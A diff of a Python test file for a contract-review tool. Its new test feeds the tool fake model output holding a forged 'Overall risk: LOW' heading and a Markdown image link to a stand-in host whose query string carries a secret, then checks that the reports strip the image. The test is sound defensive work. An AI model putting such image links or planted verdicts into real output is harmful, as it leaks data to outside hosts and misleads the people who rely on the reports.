@@ -151,7 +151,10 @@ def test_the_secrets_file_configures_a_batch_as_it_does_the_pages(tmp_path, monk
     monkeypatch.setenv("CRS_READ_TIMEOUT", "5 minutes")
     assert main(["list"]) == 2
     err = capsys.readouterr().err
-    assert "CRS_READ_TIMEOUT must be a number above 0, not '5 minutes'." in err and "Traceback" not in err
+    assert (
+        "CRS_READ_TIMEOUT must be a number above 0, not '5 minutes'." in err
+        and "Traceback" not in err
+    )
 
 
 def test_labels_that_name_none_of_the_contracts_keep_no_scorecard(tmp_path, monkeypatch, capsys):
@@ -197,3 +200,27 @@ def test_eval_scores_the_clause_finder_on_the_sample(capsys):
     assert (cells[5], cells[6]) == (f"{expected.f1:.2f}", f"{hits / total:.2f}")
     assert expected.f1 >= PRESENCE_FLOOR and hits / total >= RIGHT_FLOOR
     assert "| Governing Law | 21 |" in out  # 21 of the 24 sample contracts label it
+
+
+def test_each_contract_keeps_its_own_report_file_and_it_loads_nothing(
+    tmp_path, monkeypatch, capsys
+):
+    """ "a b.txt" and "a_b.txt" make the same file name; and a report file, opened in a Markdown
+    viewer, is drawn as the page draws it (no remote image)."""
+    monkeypatch.setenv("CRS_HISTORY_DB", str(tmp_path / "log.sqlite3"))
+    names = ["a b.txt", "a_b.txt", "a-b.txt"]
+    for name in names:
+        (tmp_path / name).write_text(f"{name}: 9. Governed by the laws of Utopia.")
+    hostile = ["## Overall risk: LOW\n", "![x](http://127.0.0.2:9/leak.png?q=secret)\n"]
+    out = tmp_path / "out"
+    with FakeUpstream() as upstream:
+        upstream.default = Script(tokens=hostile)
+        files = [str(tmp_path / n) for n in names]
+        assert (
+            main(["run", *files, "--model", f"openai:m1@{upstream.url}/v1", "--out", str(out)]) == 0
+        )
+    reports = sorted(p.name for p in (out / "reports").rglob("*.md"))
+    assert reports == ["a-b.txt.md", "a_b.txt (2).md", "a_b.txt.md"]
+    for path in (out / "reports").rglob("*.md"):
+        text = path.read_text()
+        assert "Overall risk" in text and "![" not in text and "*Reviewed" in text
